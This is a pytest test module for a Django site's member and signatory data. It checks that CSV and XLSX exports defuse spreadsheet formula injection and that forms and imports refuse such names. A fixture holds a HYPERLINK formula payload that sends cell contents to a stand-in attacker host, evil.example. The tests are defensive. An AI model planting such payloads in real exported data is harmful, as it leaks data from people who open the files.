"""No name becomes a live formula in a spreadsheet: not in the open data, not in the admin's files.

A cell starting with =, +, -, @, a tab or a carriage return is run as a formula by the
spreadsheet that opens the file; each such text cell leaves the site behind a quote ('), and
the public forms and the imports refuse names that start that way.
"""

import csv
import io

import openpyxl
import pytest
import tablib

from declarations.demo import ensure_declaration
from declarations.models import Signature
from declarations.resources import SignatureResource
from members.models import Member
from members.resources import MemberResource
from tests.factories import make_member, make_signature

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# The admin offers XLSX first, then CSV.
FORMATS = {"xlsx": "0", "csv": "1"}


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def runnable_cells(rows):
    """The cells a spreadsheet would run: text starting like a formula (a number is a number)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def formulae(content):
    """Cells of an XLSX file that are formulas, or text a spreadsheet would run."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [cell.value for cell in cells if cell.data_type == "f"] + runnable_cells(
        [[cell.value for cell in cells]]
    )


@pytest.fixture
def declaration():
    return ensure_declaration()


@pytest.fixture
def tricky_member():
    """An approved member whose names start like formulas, and a phone number that does too."""
    return make_member(
        name=LINK,
        display_name_en="@SUM(1+1)",
        display_name_fr="-2+3",
        slug="tricky",
        country="PT",
        latitude=38.72,
        longitude=-9.14,
        contact_name="+Anna",
        contact_role="\tmayor",
        contact_phone="+351 21 798 80 00",
    )


@pytest.fixture
def tricky_signature(declaration):
    return make_signature(full_name=LINK, authority_name="@Lisboa", country="PT")


# The open data


def test_members_csv_writes_formula_like_names_as_text(client, tricky_member):
    response = client.get("/data/members.csv")
    rows = csv_rows(b"".join(response.streaming_content))
    member = dict(zip(rows[0], rows[1], strict=True))

    assert runnable_cells(rows) == []
    assert member["name"] == "'" + LINK
    assert member["display_name_en"] == "'@SUM(1+1)"
    assert member["display_name_fr"] == "'-2+3"
    # A western longitude is a number, written as one.
    assert member["longitude"] == "-9.14"


def test_signatories_csv_writes_formula_like_names_as_text(client, tricky_signature):
    response = client.get("/data/signatories.csv")
    rows = csv_rows(b"".join(response.streaming_content))
    signature = dict(zip(rows[0], rows[1], strict=True))

    assert runnable_cells(rows) == []
    assert (signature["full_name"], signature["authority_name"]) == ("'" + LINK, "'@Lisboa")


def test_signatories_csv_may_be_read_by_any_site_like_the_members_files(client, declaration):
    make_signature()

    response = client.get("/data/signatories.csv")

    assert response["Access-Control-Allow-Origin"] == "*"


# The admin's exports


def coded(resource, headings):
    """An export's headings (in the admin's language) as the columns' codes."""
    codes = {resource.heading(f.column_name): f.column_name for f in resource.get_export_fields()}
    return [codes[heading.lstrip("\ufeff")] for heading in headings]


def export_members(client, file_format):
    fields = {f"memberresource_{name}": "on" for name in MemberResource.Meta.fields}
    response = client.post(
        "/admin/members/member/export/",
        {"format": FORMATS[file_format], "resource": "0", **fields},
    )
    assert response.status_code == 200
    return response.content


def export_signatures(client, file_format):
    url = "/admin/declarations/signature/export/"
    form = client.get(url).context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial}
    response = client.post(url, {**data, "format": FORMATS[file_format]})
    assert response.status_code == 200
    return response.content


def test_admin_csv_export_of_members_writes_names_and_phones_as_text(admin_client, tricky_member):
    rows = csv_rows(export_members(admin_client, "csv"))
    member = dict(zip(coded(MemberResource(), rows[0]), rows[1], strict=True))

    assert runnable_cells(rows) == []
    assert member["name"] == "'" + LINK
    assert member["contact_name"] == "'+Anna"
    assert member["contact_role"] == "'\tmayor"
    assert member["contact_phone"] == "'+351 21 798 80 00"
    assert member["longitude"] == "-9.14"


def test_admin_xlsx_export_of_members_holds_no_formula(admin_client, tricky_member):
    content = export_members(admin_client, "xlsx")

    assert formulae(content) == []
    sheet = tablib.Dataset().load(content, format="xlsx")
    sheet.headers = coded(MemberResource(), sheet.headers)
    assert sheet["name"] == ["'" + LINK]
    assert sheet["longitude"] == [-9.14]


def test_admin_csv_export_of_signatures_writes_names_as_text(admin_client, tricky_signature):
    rows = csv_rows(export_signatures(admin_client, "csv"))
    signature = dict(zip(coded(SignatureResource(), rows[0]), rows[1], strict=True))

    assert runnable_cells(rows) == []
    assert (signature["full_name"], signature["authority_name"]) == ("'" + LINK, "'@Lisboa")


def test_admin_xlsx_export_of_signatures_holds_no_formula(admin_client, tricky_signature):
    assert formulae(export_signatures(admin_client, "xlsx")) == []


def test_a_phone_number_comes_back_from_a_re_imported_export_without_its_quote(
    admin_client, tmp_path
):
    member = make_member(name="Lisboa", country="PT", contact_phone="+351 21 798 80 00")
    path = tmp_path / "members.csv"
    path.write_bytes(export_members(admin_client, "csv"))

    with path.open("rb") as upload:
        preview = admin_client.post(
            "/admin/members/member/import/",
            {"import_file": upload, "format": FORMATS["csv"], "resource": "0"},
        )

    assert [row.import_type for row in preview.context["result"].rows] == ["skip"]
    member.refresh_from_db()
    assert member.contact_phone == "+351 21 798 80 00"


# Names refused where they come in


@pytest.mark.parametrize("field", ["name", "contact_name", "contact_role"])
@pytest.mark.parametrize("value", [LINK, "@SUM(A1)", "+Anna", "-1+2"])
def test_join_form_refuses_a_name_that_starts_like_a_formula(client, field, value):
    join_data = {
        "name": "Lisboa",
        "kind": "city",
        "country": "PT",
        "contact_name": "Ana Silva",
        "contact_role": "Mayor's office",
        "contact_email": "ana.silva@example.org",
        "contact_phone": "+351 21 798 80 00",
        "motivation": "Lisbon works with its Roma community on housing.",
        "privacy_consent": "on",
    }

    response = client.post("/en/join/", {**join_data, field: value})

    assert response.status_code == 200
    assert f"A name cannot start with “{value[0]}”" in response.content.decode()
    assert not Member.objects.exists()


@pytest.mark.parametrize("column", ["name", "display_name_en", "contact_name", "contact_role"])
def test_members_import_refuses_a_name_that_starts_like_a_formula(column):
    row = {"slug": "", "name": "Lisboa", "kind": "city", "country": "PT", "status": "pending"}
    dataset = tablib.Dataset(headers=list({**row, column: ""}))
    dataset.append(list({**row, column: LINK}.values()))

    result = MemberResource().import_data(dataset, dry_run=False)

    assert "A name cannot start with “=”" in str(result.invalid_rows[0].error_dict[column])
    assert not Member.objects.exists()


@pytest.mark.parametrize("column", ["full_name", "authority_name"])
def test_signatures_import_refuses_a_name_that_starts_like_a_formula(declaration, column):
    row = {
        "full_name": "Ana Silva",
        "office": "mayor",
        "authority_name": "Lisboa",
        "country": "PT",
        "signed_on": "2017-03-28",
    }
    dataset = tablib.Dataset(headers=list(row))
    dataset.append(list({**row, column: "@SUM(A1)"}.values()))

    result = SignatureResource().import_data(dataset, dry_run=False)

    assert "A name cannot start with “@”" in str(result.invalid_rows[0].error_dict[column])
    assert not Signature.objects.exists()
